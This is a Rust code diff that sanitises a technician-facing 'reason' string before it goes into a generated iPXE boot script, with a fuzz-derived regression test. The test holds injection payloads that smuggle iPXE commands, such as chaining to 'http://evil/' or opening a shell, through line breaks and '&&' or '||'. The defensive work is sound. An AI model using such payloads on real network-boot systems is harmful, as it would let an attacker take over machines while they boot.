@@ -40,14 +40,29 @@ pub enum ScriptError {
     Render(#[from] askama::Error),
 }
 
-/// Renders the script for `mac`. `reason` is echoed as a comment for technicians.
+/// Renders the script for `mac`. `reason` is echoed as a comment for technicians,
+/// made plain first (see [`plain_reason`]): it may quote an error.
 pub fn render(mac: &str, action: &Action, reason: &str) -> Result<String, ScriptError> {
     Ok(BootScript {
         mac,
-        reason,
+        reason: &plain_reason(reason),
         action,
     }
     .render()?)
+}
+
+/// `reason` as one line that iPXE reads as text in a comment and in an `echo`: line
+/// breaks and other control or space characters become spaces, and the characters iPXE
+/// gives a meaning (`$` of `${...}`, `|` and `&` of `||` and `&&`, `;`, `#`) become `_`.
+fn plain_reason(reason: &str) -> String {
+    reason
+        .chars()
+        .map(|c| match c {
+            '$' | '|' | '&' | ';' | '#' => '_',
+            c if c.is_control() || c.is_whitespace() => ' ',
+            c => c,
+        })
+        .collect()
 }
 
 #[cfg(test)]
@@ -78,6 +93,28 @@ mod tests {
         assert!(s.contains("iseq ${buildarch} arm64 && goto arm64"));
         assert!(s.contains("kernel http://s/ka initrd=initrd console=ttyAMA0"));
         assert!(s.contains("initrd --name initrd http://s/i\n"));
+    }
+
+    /// Found by the `renderers` fuzz target: an error quoted in the reason (here the
+    /// image's unsafe kernel argument) reached the script as iPXE syntax, and a line
+    /// break in it would have started a command of its own.
+    #[test]
+    fn reason_stays_text_on_its_lines() {
+        let mac = "52:54:00:00:00:01";
+        let plain = render(mac, &Action::LocalBoot, "r").unwrap();
+        for reason in [
+            "install media unavailable: kernel argument \"${x}\" would be misread by iPXE",
+            "x\n:failed\nchain http://evil/ || shell",
+            "a && chain http://evil/ ; #b\r\u{2028}c",
+        ] {
+            let s = render(mac, &Action::LocalBoot, reason).unwrap();
+            assert_eq!(s.lines().count(), plain.lines().count(), "{s}");
+            let echo = s.lines().find(|l| l.starts_with("echo ")).unwrap();
+            assert!(
+                !echo.contains("${") && !echo.contains(['&', '|', ';', '#']),
+                "{echo}"
+            );
+        }
     }
 
     #[test]
